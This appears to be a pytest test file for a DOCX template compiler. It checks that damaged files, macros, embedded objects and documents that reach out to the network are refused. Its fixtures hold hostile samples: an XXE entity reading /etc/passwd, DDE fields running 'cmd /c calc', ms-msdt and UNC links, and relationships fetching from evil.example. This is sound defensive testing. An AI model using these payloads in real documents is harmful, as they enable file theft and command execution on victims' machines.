"""Files that are no template, are damaged, or would fetch or run something: each is told, nothing of it is printed."""

from __future__ import annotations

import struct
from collections.abc import Callable
from pathlib import Path

import pytest

from render.raw import field, p, r, raw, relation, zipped
from render.words import part, with_part, word
from vanban.errors.base import VanbanError
from vanban.errors.files import FileTooLarge
from vanban.errors.render import (
    NotADocx,
    TemplateDamaged,
    TemplateDeclaresEntities,
    TemplateFileTooLarge,
    TemplateHasMacros,
    TemplateHasObjects,
    TemplateIsLocked,
    TemplateReachesOut,
)
from vanban.render.cache import read_template
from vanban.render.template import compile_template

_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_GOOD = raw(p("{{ name }}"))


def _flipped(at: Callable[[bytes], int]) -> bytes:
    """The good file with one byte changed."""
    content = bytearray(_GOOD)
    content[at(_GOOD)] ^= 0xFF
    return bytes(content)


def _wrong_size() -> bytes:
    """The directory says one byte less than there is."""
    content = bytearray(_GOOD)
    entry = content.find(b"PK\x01\x02")
    (size,) = struct.unpack_from("<L", content, entry + 24)
    struct.pack_into("<L", content, entry + 24, size - 1)
    return bytes(content)


NO_TEMPLATES = {
    "nothing": (b"", NotADocx),
    "text": ("chữ".encode(), NotADocx),
    "half a zip": (b"PK\x03\x04 not really", NotADocx),
    "cut": (_GOOD[:-200], NotADocx),
    "cut at the front": (_GOOD[300:], VanbanError),
    "a .doc named .docx": (_OLE + b"\0" * 600, NotADocx),
    "a password": (_OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"), TemplateIsLocked),
    "RTF named .docx": (b"{\\rtf1 x}", NotADocx),
    "PDF named .docx": (b"%PDF-1.7", NotADocx),
    "a zip of other things": (zipped({"a.txt": "x"}), NotADocx),
    "a body without a type": (zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "<a/>"}), NotADocx),
    "broken types": (zipped({"[Content_Types].xml": "<Types", "word/document.xml": "<a/>"}), TemplateDamaged),
    "a wrong check sum": (_flipped(lambda good: good.find(b"PK\x01\x02") + 16), TemplateDamaged),
    "changed bytes": (_flipped(lambda good: good.find(b"PK\x01\x02") - 20), TemplateDamaged),
    "a wrong size": (_wrong_size(), TemplateDamaged),
    "no XML": (with_part(word(), "word/document.xml", b"<a"), TemplateDamaged),
    "no XML beside the body": (with_part(_GOOD, "word/styles.xml", b"<w:styles"), TemplateDamaged),
    "UTF-16": (with_part(word(), "word/document.xml", part(word()).encode("utf-16")), TemplateDamaged),
    "two parts of one name": (raw(p("x"), parts={"word/Document.xml": "<a/>"}), NotADocx),
    "a part outside": (raw(p("x"), parts={"../x.xml": "<a/>"}), NotADocx),
    "a tag in a chart": (
        raw(
            p("x"),
            parts={"word/charts/chart1.xml": "<c>{{ name }}</c>"},
            types='<Override PartName="/word/charts/chart1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"/>',
        ),
        TemplateDamaged,
    ),
}


@pytest.mark.parametrize("name", NO_TEMPLATES)
def test_what_is_no_template_is_told(name: str) -> None:
    content, error = NO_TEMPLATES[name]

    with pytest.raises(error):
        compile_template(content, name=name)


_ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
_PARTS = ["word/document.xml", "word/styles.xml", "word/settings.xml", "word/_rels/document.xml.rels"]
_PARTS += ["_rels/.rels", "[Content_Types].xml", "docProps/core.xml"]


@pytest.mark.parametrize("name", _PARTS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le"])
def test_entities_are_refused_in_every_part_and_encoding(name: str, encoding: str) -> None:
    head, _, rest = part(_GOOD, name).partition("?>")
    declared = head.replace("UTF-8", "UTF-16" if encoding != "utf-8" else "UTF-8")
    content = with_part(_GOOD, name, f"{declared}?>{_ENTITY}{rest}".encode(encoding))

    with pytest.raises((TemplateDeclaresEntities, TemplateDamaged)):
        compile_template(content)


def _with_relation(kind: str, target: str, *, external: bool = True) -> bytes:
    return raw(p("x"), relations=relation("rIdX", kind, target, external=external))


_MICROSOFT = "http://schemas.microsoft.com/office/"
_SETTINGS_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    + relation("rId1", "attachedTemplate", "https://evil.example/t.dotm", external=True)
    + "</Relationships>"
)
REACHING = {
    "a template on a server": raw(
        p("x"),
        settings='<w:attachedTemplate r:id="rId1"/>',
        parts={"word/_rels/settings.xml.rels": _SETTINGS_RELS},
    ),
    "a template in a hidden part": raw(p("x"), parts={"word/_rels/other.xml.rels": _SETTINGS_RELS}),
    "a picture on a server": _with_relation("image", "http://evil.example/a.png"),
    "a picture on a file server": _with_relation("image", "file://///evil.example/a.png"),
    "a frame": _with_relation("frame", "http://evil.example/a.html"),
    "an external object": _with_relation("oleObject", "http://evil.example/a.doc"),
    "a target that is outside without saying so": _with_relation("image", "http://evil.example/a", external=False),
    "a linked part of the document": _with_relation("subDocument", "a.docx"),
    "a picture in VML": raw(
        p('<w:r><w:pict><v:shape><v:imagedata src="http://e.example/a"/></v:shape></w:pict></w:r>')
    ),
    "a filling in VML": raw(p('<w:r><w:pict><v:rect><v:fill o:href="http://e.example/a"/></v:rect></w:pict></w:r>')),
    "a mail merge": raw(p("x"), settings='<w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge>'),
    **{
        f"a field {code.split()[0]}": raw(p(field(code)))
        for code in (
            "DDE cmd /c calc",
            "DDEAUTO cmd /c calc",
            'INCLUDETEXT "http://evil.example/a"',
            'INCLUDEPICTURE "http://evil.example/a.png"',
            "LINK Excel.Sheet.12 a.xlsx",
            "IMPORT a.png",
            "DATABASE \\d a.mdb",
            "RD a.docx",
        )
    },
    "a field in lower case": raw(p(field("  ddeauto c:\\x"))),
    "a field in an attribute": raw(p('<w:fldSimple w:instr="DDE x y">' + r("x") + "</w:fldSimple>")),
    "a field over several runs": raw(
        p(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>D</w:instrText></w:r>'
            "<w:r><w:instrText>DEAUTO x</w:instrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        )
    ),
    "a field in a header": raw(p("x"), headers={"first": p(field("INCLUDETEXT a"))}),
    "a field spelt with references": raw(p(field("&#68;&#x44;E x"))),
    "a field under another prefix": raw(
        p(
            '<z:r xmlns:z="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            '<z:fldChar z:fldCharType="begin"/><z:instrText>DDE x</z:instrText><z:fldChar z:fldCharType="end"/></z:r>'
        )
    ),
}


@pytest.mark.parametrize("name", REACHING)
def test_nothing_is_fetched_when_a_paper_is_opened(name: str) -> None:
    with pytest.raises(TemplateReachesOut) as told:
        compile_template(REACHING[name])

    assert "bên ngoài" in str(told.value)


_TYPE = '<Override PartName="/{0}" ContentType="{1}"/>'
OBJECTS = {
    "an OLE object": raw(p('<w:r><w:object><o:OLEObject Type="Embed" r:id="rIdX"/></w:object></w:r>')),
    "an embedded object": _with_relation("oleObject", "embeddings/a.bin", external=False),
    "an embedded file": _with_relation("package", "embeddings/a.xlsx", external=False),
    "ActiveX": raw(p('<w:r><w:control r:id="rIdX" w:name="x"/></w:r>')),
    "ActiveX by relation": _with_relation("control", "activeX/a.xml", external=False),
    "ActiveX by type": raw(
        p("x"),
        parts={"word/a.xml": "<a/>"},
        types=_TYPE.format("word/a.xml", "application/vnd.ms-office.activeX+xml"),
    ),
    "altChunk": raw('<w:altChunk r:id="rIdX"/>'),
    "altChunk by relation": _with_relation("aFChunk", "a.html", external=False),
    "an add-in": _with_relation(_MICROSOFT + "2011/relationships/webextensiontaskpanes", "a.xml", external=False),
    "a link to a program": _with_relation("hyperlink", "ms-msdt:/id x"),
    "a link to a file": _with_relation("hyperlink", "file:///c:/x.exe"),
    "a link to a file server": _with_relation("hyperlink", "\\\\evil.example\\a"),
    "a script": _with_relation("hyperlink", "javascript:alert(1)"),
    "a macro button": raw(p(field("MACROBUTTON AutoOpen x"))),
    "a field named by a tag": raw(p(field("{{ name }} x"))),
    "a field begun by a tag": raw(p(field("DD{{ name }} x"))),
    "a field named by a field": raw(
        p(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
            + field("QUOTE 69", "E")
            + '<w:r><w:instrText> cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        )
    ),
}


@pytest.mark.parametrize("name", OBJECTS)
def test_nothing_runs_when_a_paper_is_opened(name: str) -> None:
    with pytest.raises(TemplateHasObjects):
        compile_template(OBJECTS[name])


MACROS = {
    "by its usual name": raw(p("x"), parts={"word/vbaProject.bin": b"x"}),
    "by type under another name": raw(
        p("x"), parts={"word/x.bin": b"x"}, types=_TYPE.format("word/x.bin", "application/vnd.ms-office.vbaProject")
    ),
    "by the type of an ending": raw(
        p("x"),
        parts={"word/x.qq": b"x"},
        types='<Default Extension="qq" ContentType="application/vnd.ms-office.vbaProject"/>',
    ),
    "by relation": _with_relation(_MICROSOFT + "2006/relationships/vbaProject", "x.png", external=False),
    "by the keyboard": _with_relation(_MICROSOFT + "2006/relationships/keyMapCustomizations", "x.xml", external=False),
    "by the ribbon": _with_relation(_MICROSOFT + "2007/relationships/ui/extensibility", "x.xml", external=False),
    "a .docm named .docx": with_part(
        _GOOD,
        "[Content_Types].xml",
        part(_GOOD, "[Content_Types].xml")
        .replace(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        )
        .encode(),
    ),
}


@pytest.mark.parametrize("name", MACROS)
def test_macros_are_found_under_any_name(name: str) -> None:
    with pytest.raises(TemplateHasMacros):
        compile_template(MACROS[name])


HARMLESS = {
    "links to pages and mail": raw(
        p("x"),
        relations=relation("rId7", "hyperlink", "https://example.vn/a", external=True)
        + relation("rId8", "hyperlink", "mailto:a@example.vn", external=True),
    ),
    "fields of Word": raw(
        *(p(field(code)) for code in ("PAGE", ' DATE \\@ "d/M/yyyy" ', "TOC \\o", "= 1 + 1", "REF a"))
    ),
    "fields in fields": raw(
        p(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF </w:instrText></w:r>'
            + field("PAGE")
            + '<w:r><w:instrText> &gt; 1 "a"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        )
    ),
    "a workbook behind a chart": raw(
        p("x"),
        parts={
            "word/charts/_rels/chart1.xml.rels": _SETTINGS_RELS.partition("<Relationship ")[0]
            + relation("rId1", "package", "../embeddings/a.xlsx")
            + "</Relationships>"
        },
    ),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_what_staff_have_in_their_templates_is_taken(name: str) -> None:
    assert compile_template(HARMLESS[name]).render({"name": "x"})


def test_a_field_cannot_be_ended_by_a_value() -> None:
    compiled = compile_template(raw(p(field('HYPERLINK "{{ name }}"'))))

    assert compiled.render({"name": "https://example.vn/?a=1&b=2"})
    with pytest.raises(VanbanError):
        compiled.render({"name": 'x" \\o "y'})


def test_attributes_take_text_and_refuse_line_breaks() -> None:
    drawing = '<w:r><w:drawing><wp:inline><wp:docPr id="1" name="a" descr="{{ name }}"/></wp:inline></w:drawing></w:r>'
    compiled = compile_template(raw(p(drawing)))

    assert 'descr="a &quot;b&quot; &lt;c&gt; &amp;"' in part(compiled.render({"name": 'a "b" <c> &'}))
    with pytest.raises(VanbanError):
        compiled.render({"name": "a\nb"})


def test_a_large_file_is_refused_before_it_is_read(tmp_path: Path) -> None:
    """200 MB that are only a hole in the disk: reading them would be noticed."""
    file = tmp_path / "mau.docx"
    with file.open("wb") as hole:
        hole.truncate(200_000_000)

    with pytest.raises(FileTooLarge) as told:
        read_template(file)
    with pytest.raises(TemplateFileTooLarge):
        compile_template(b"PK" + b"\0" * 50_000_000, name="mau.docx")

    assert "200 MB" in str(told.value)
